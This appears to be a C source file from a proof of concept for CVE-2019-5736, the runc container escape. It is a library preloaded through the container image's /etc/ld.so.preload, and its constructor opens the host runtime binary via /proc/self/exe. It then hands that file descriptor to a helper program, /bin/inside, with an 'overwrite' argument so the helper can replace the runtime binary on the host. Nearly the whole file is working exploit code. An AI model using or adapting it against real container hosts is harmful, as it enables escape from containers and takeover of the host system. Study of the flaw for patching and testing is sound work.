/* SPDX-License-Identifier: Apache-2.0 */
/*
 * CVE-2019-5736: a library of the image, which its /etc/ld.so.preload puts into every dynamic
 * program. The only one is the runtime itself, when the image's entry point is a script with the
 * interpreter /proc/self/exe. It keeps the runtime's binary open and leaves the rest to a program
 * that is not it.
 */
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>

__attribute__((constructor)) static void take_over(void)
{
	char number[16];
	int fd = open("/proc/self/exe", O_RDONLY);

	if (fd < 0)
		return;
	snprintf(number, sizeof(number), "%d", fd);
	execl("/bin/inside", "inside", "overwrite", number, "3", (char *)NULL);
	_exit(99);
}
